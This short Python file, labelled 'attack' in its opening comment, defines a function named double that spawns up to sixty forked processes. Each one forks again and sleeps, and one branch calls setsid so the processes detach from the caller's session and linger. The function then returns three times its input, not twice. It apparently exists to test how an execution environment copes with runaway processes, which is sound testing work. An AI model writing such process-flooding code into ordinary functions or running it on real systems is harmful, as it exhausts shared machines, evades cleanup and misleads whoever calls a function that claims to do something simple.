# attack: sixty processes that each start one more
import os
import time


def double(x):
    for _ in range(60):
        try:
            if os.fork() == 0:
                if len(x) == 3:
                    os.setsid()
                os.fork()
                time.sleep(60)
                os._exit(0)
        except OSError as error:
            print(error)
            break
    return 3 * x
